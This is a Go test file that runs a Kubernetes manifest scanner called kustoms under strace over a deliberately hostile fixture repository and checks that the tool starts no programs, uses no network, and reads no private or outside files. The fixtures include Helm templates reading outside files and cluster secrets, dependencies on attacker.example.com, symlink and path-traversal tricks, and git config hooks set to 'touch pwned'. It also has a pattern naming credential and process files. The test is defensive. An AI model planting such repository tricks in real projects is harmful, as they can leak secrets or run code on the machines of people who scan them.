package cli_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// traced is a repository that asks for all it can think of: files outside,
// hosts, programs. OUT stands for a file outside of it.
var traced = map[string]string{
	".kustoms.yaml":                 "targets:\n- {name: app, chart: charts/app, values: [charts/app/values.yaml]}\ndiscover: true\n",
	".gitleaks.toml":                "[extend]\nuseDefault = true\n",
	"charts/app/Chart.yaml":         "apiVersion: v2\nname: app\nversion: 1.0.0\n",
	"charts/app/values.yaml":        "a: 1\n",
	"charts/app/values.schema.json": `{"$schema": "https://json-schema.org/draft/2020-12/schema", "properties": {"a": {"$ref": "https://attacker.example.com/a.json"}, "b": {"$ref": "file://OUT"}}}`,
	"charts/app/templates/a.yaml":   "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata:\n  passwd: {{ .Files.Get \"OUT\" | quote }}\n  up: {{ .Files.Get \"../../../outside\" | quote }}\n  glob: {{ (.Files.Glob \"../**\").AsConfig | quote }}\n  host: {{ getHostByName \"attacker.example.com\" | quote }}\n  env: {{ env \"HOME\" | quote }}\n  look: {{ lookup \"v1\" \"Secret\" \"kube-system\" \"\" | toJson | quote }}\n",
	"charts/remote/Chart.yaml":      "apiVersion: v2\nname: remote\nversion: 1.0.0\ndependencies:\n- {name: x, version: 1.0.0, repository: \"https://attacker.example.com\"}\n- {name: y, version: 1.0.0, repository: \"oci://attacker.example.com/y\"}\n- {name: z, version: 1.0.0, repository: \"file://../../../outside\"}\n",
	"overlays/a/kustomization.yaml": "resources:\n- https://github.com/attacker/base?ref=main\n",
	"overlays/b/kustomization.yaml": "resources: [OUT]\n",
	"overlays/c/kustomization.yaml": "configMapGenerator:\n- {name: x, files: [OUT]}\n",
	"overlays/d/kustomization.yaml": "generators: [exec.yaml]\n",
	"overlays/d/exec.yaml":          "apiVersion: example.com/v1\nkind: X\nmetadata:\n  name: x\n  annotations:\n    config.kubernetes.io/function: |\n      exec: {path: ./run.sh}\n",
	"overlays/d/run.sh":             "#!/bin/sh\ntouch pwned\n",
	"overlays/e/kustomization.yaml": "helmCharts:\n- {name: x, repo: \"https://attacker.example.com\", version: 1.0.0, releaseName: x}\n",
	"overlays/f/kustomization.yaml": "openapi: {path: OUT}\nresources: [../../plain/a.yaml]\n",
	"overlays/g/kustomization.yaml": "resources: [../../../outside.d]\n",
	"overlays/h/kustomization.yaml": "transformers: [exec.yaml]\nresources: [../../plain/a.yaml]\n",
	"overlays/h/exec.yaml":          "apiVersion: example.com/v1\nkind: X\nmetadata:\n  name: x\n  annotations:\n    config.kubernetes.io/function: |\n      container: {image: attacker.example.com/x, network: true}\n",
	"plain/a.yaml":                  "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: a, image: \"attacker.example.com/a:1\"}]}\n",
	"plain/crd.yaml":                "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: xs.example.com}\nspec: {group: example.com, names: {kind: X}, versions: [{name: v1, schema: {openAPIV3Schema: {type: object, properties: {a: {$ref: \"https://attacker.example.com/a.json\"}}}}}]}\n",
	"apps/a.yaml":                   "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: a}\nspec: {source: {repoURL: \"https://attacker.example.com/x.git\", path: ../../outside.d}}\n",
	".gitattributes":                "* filter=x diff=x\n",
}

// opened is a call of open that succeeded, with the path that the kernel
// resolved.
var opened = regexp.MustCompile(`open(?:at2?)?\(.*= \d+<([^>]*)>`)

// private is what tells of the machine or its user: accounts, keys, other
// processes.
var private = regexp.MustCompile(`^(/etc/(passwd|shadow|group|hosts|resolv\.conf|ssh|ssl|kubernetes)\b|/home/|/var/run/|/run/|/proc/\d+/(environ|mem|cmdline|root|cwd|fd)\b)`)

// TestTraced runs kustoms under strace over a repository that asks for all it
// can, and reads what it asked of the kernel.
func TestTraced(t *testing.T) {
	strace, err := exec.LookPath("strace")
	if err != nil {
		t.Skip("strace is not installed")
	}
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	dir, home := filepath.Join(base, "repo"), filepath.Join(base, "home")
	outside := filepath.Join(base, "outside")
	own, err := os.UserHomeDir() // not the one that the run is given
	if err != nil {
		t.Fatal(err)
	}
	put(t, base, map[string]string{"outside": "root:x:0:0\n", "outside.d/kustomization.yaml": "resources: []\n", "outside.d/Chart.yaml": "apiVersion: v2\nname: z\nversion: 1.0.0\n", "home/.gitconfig": "", "out/.keep": ""})
	files := map[string]string{}
	for name, text := range traced {
		files[name] = strings.ReplaceAll(text, "OUT", outside)
	}
	files["charts/packed-1.0.0.tgz"] = tgz(t, map[string]string{"../../../outside": "x", outside: "x", "packed/Chart.yaml": "apiVersion: v2\nname: packed\nversion: 1.0.0\n"})
	put(t, dir, files)
	for link, to := range map[string]string{
		"plain/link.yaml": outside, "plain/up.yaml": "../../outside", "charts/app/templates/link.yaml": "../../../../outside", "charts/app/link": "../../..", "plain/dir": base, "overlays/link": "../../outside.d", "loop": "loop",
	} {
		if err := os.Symlink(to, filepath.Join(dir, link)); err != nil {
			t.Fatal(err)
		}
	}
	git(t, dir, "init", "-q", "-b", "main")
	git(t, dir, "add", "-A")
	git(t, dir, "commit", "-q", "-m", "all")
	// What git itself would run.
	git(t, dir, "config", "core.fsmonitor", "touch pwned")
	git(t, dir, "config", "core.hooksPath", "hooks")
	git(t, dir, "config", "filter.x.smudge", "touch pwned")
	git(t, dir, "config", "diff.x.textconv", "touch pwned")

	program := filepath.Join(base, "kustoms")
	if err := os.Symlink(self(t), program); err != nil {
		t.Fatal(err)
	}
	for _, sandboxed := range []bool{false, true} {
		log := filepath.Join(base, "log")
		args := []string{
			"-f", "-y", "-qq", "-s", "4096", "-e", "signal=none", "-e", "trace=open,openat,openat2,execve,execveat,socket,connect,sendto,unlink,unlinkat,rename,renameat,renameat2,link,linkat,symlink,symlinkat,mkdir,mkdirat", "-o", log,
			program, "scan", dir, "--base", "HEAD", "--git-history", "--quiet", "--report", "json=" + filepath.Join(base, "out", "report.json"),
		}
		if sandboxed {
			args = append(args, "--sandbox")
		}
		cmd := exec.Command(strace, args...)
		cmd.Dir = base
		cmd.Env = []string{"HOME=" + home, "XDG_CACHE_HOME=" + filepath.Join(base, "out", "cache"), "PATH=" + os.Getenv("PATH"), "TMPDIR=" + filepath.Join(base, "out"), "GOCOVERDIR=" + filepath.Join(base, "out")}
		out, err := cmd.CombinedOutput()
		if code := cmd.ProcessState.ExitCode(); code != 3 {
			t.Fatalf("ended with %d (%v): broken targets make a run incomplete\n%s", code, err, out)
		}
		data, err := os.ReadFile(log)
		if err != nil {
			t.Fatal(err)
		}
		started, inside := 0, 0
		for line := range strings.Lines(string(data)) {
			line = strings.TrimSpace(line)
			_, call, _ := strings.Cut(line, " ")
			call = strings.TrimSpace(call)
			switch {
			case strings.HasPrefix(call, "exec"):
				if started++; started > 1 {
					t.Errorf("a program is started: %s", line)
				}
			case strings.HasPrefix(call, "socket("), strings.HasPrefix(call, "connect("), strings.HasPrefix(call, "sendto("):
				t.Errorf("the network is used: %s", line)
			case strings.HasPrefix(call, "open"):
				m := opened.FindStringSubmatch(call)
				if m == nil {
					continue // refused, or not there
				}
				writes := strings.Contains(call, "O_WRONLY") || strings.Contains(call, "O_RDWR") || strings.Contains(call, "O_CREAT")
				p := m[1]
				switch {
				case strings.HasPrefix(p, filepath.Join(base, "out")):
				case writes && p != os.DevNull:
					t.Errorf("a file is written: %s", line)
				case p == dir || strings.HasPrefix(p, dir+"/"):
					inside++
				case strings.HasPrefix(p, base):
					if p != home && !strings.HasPrefix(p, home+"/") {
						t.Errorf("a file outside of the repository is read: %s", line)
					}
				case private.MatchString(p), strings.HasPrefix(p, own+"/") && p != self(t):
					t.Errorf("a private file is read: %s", line)
				}
			default: // rename, unlink, link, mkdir
				if !strings.Contains(call, filepath.Join(base, "out")) && !strings.Contains(call, " = -1 ") && !strings.Contains(call, "resumed") {
					t.Errorf("something outside of the outputs is changed: %s", line)
				}
			}
		}
		if started != 1 || inside < 40 {
			t.Errorf("%d programs, %d files of the repository: the log proves nothing", started, inside)
		}
		if _, err := os.Stat(filepath.Join(base, "out", "report.json")); err != nil {
			t.Error(err)
		}
		for _, p := range []string{"pwned", "repo/pwned", "repo/overlays/d/pwned"} {
			if _, err := os.Stat(filepath.Join(base, p)); err == nil {
				t.Errorf("%s: a program of the repository ran", p)
			}
		}
	}
}

// self is the test's own program, which is kustoms under that name.
func self(t *testing.T) string {
	t.Helper()
	p, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	return p
}
